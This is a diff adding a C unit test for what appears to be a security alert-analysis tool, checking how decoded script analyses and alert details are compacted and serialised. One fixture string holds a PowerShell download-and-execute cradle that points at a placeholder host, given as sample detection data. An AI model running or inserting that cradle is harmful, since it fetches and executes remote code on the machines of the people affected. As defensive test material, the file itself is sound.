@@ -13,6 +13,7 @@
 #include <jansson.h>
 
 #include "analyze.h"
+#include "analyze_int.h"
 #include "correlate_test.h"
 #include "log.h"
 #include "llm.h"
@@ -649,6 +650,63 @@ static void test_crash_restart(void)
     at_close(&t);
 }
 
+/* What an incident keeps of its alerts: the compact script analyses
+ * (entity, risk, decoded text, behaviours, indicators) and the details a
+ * snapshot leaves out (description, tactics, techniques). */
+static void test_side_sections(void)
+{
+    const char *sec =
+        "[{\"entity\":\"process:h:1\",\"language\":\"powershell\","
+        "\"risk\":67,\"layers\":[{\"text\":\"a\"},{\"text\":\"b\"}],"
+        "\"decoded\":\"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\","
+        "\"behaviours\":[{\"technique\":\"T1105\",\"name\":\"Ingress Tool Transfer\","
+        "\"tactic\":\"command-and-control\",\"evidence\":\"...\"}],"
+        "\"indicators\":[{\"type\":\"url\",\"value\":\"http://x.test/a\",\"layer\":1}]}]";
+    size_t n = 0;
+    char *c = an_compact_scripts("graph:a1", sec, strlen(sec), &n);
+    T_OK(c != NULL);
+    json_t *j = c ? json_loadb(c, n, 0, NULL) : NULL;
+    T_OK(json_is_array(j) && json_array_size(j) == 1);
+    json_t *e = json_array_get(j, 0);
+    T_EQ_STR(json_string_value(json_object_get(e, "alert")), "graph:a1");
+    T_EQ_INT(json_integer_value(json_object_get(e, "risk")), 67);
+    T_EQ_INT(json_integer_value(json_object_get(e, "layer_count")), 2);
+    T_CONTAINS(json_string_value(json_object_get(e, "decoded")), "DownloadString");
+    T_EQ_STR(json_string_value(json_object_get(
+                 json_array_get(json_object_get(e, "behaviours"), 0), "technique")),
+             "T1105");
+    T_EQ_STR(json_string_value(json_object_get(
+                 json_array_get(json_object_get(e, "indicators"), 0), "value")),
+             "http://x.test/a");
+    T_OK(json_object_get(e, "layers") == NULL);    /* layers' texts are not kept */
+    json_decref(j);
+    free(c);
+    T_OK(an_compact_scripts("x", "not json", 8, &n) == NULL);
+
+    struct sp_arena a;
+    sp_arena_init(&a, 0);
+    struct sp_alert *al = sp_alert_new(&a);
+    const char *tactics[] = {"execution", "command-and-control"};
+    const char *techs[] = {"T1059.001"};
+    al->id = "graph:a1";
+    al->description = "An encoded PowerShell command downloaded a script.";
+    al->tactics = tactics;
+    al->n_tactics = 2;
+    al->techniques = techs;
+    al->n_techniques = 1;
+    al->category = "Execution";
+    char *d = an_alert_details(al, &n);
+    j = d ? json_loadb(d, n, 0, NULL) : NULL;
+    T_OK(json_is_object(j));
+    T_CONTAINS(json_string_value(json_object_get(j, "description")), "encoded PowerShell");
+    T_EQ_INT(json_array_size(json_object_get(j, "tactics")), 2);
+    T_EQ_STR(json_string_value(json_array_get(json_object_get(j, "techniques"), 0)),
+             "T1059.001");
+    json_decref(j);
+    free(d);
+    sp_arena_fini(&a);
+}
+
 int main(void)
 {
     t_prog = "test_analyze";
@@ -663,6 +721,7 @@ int main(void)
         if (!only || strstr(#fn, only))                                     \
             T_RUN(fn);                                                      \
     } while (0)
+    RUN(test_side_sections);
     RUN(test_debounce_template);
     RUN(test_skip_unchanged_and_dup);
     RUN(test_lease_takeover);
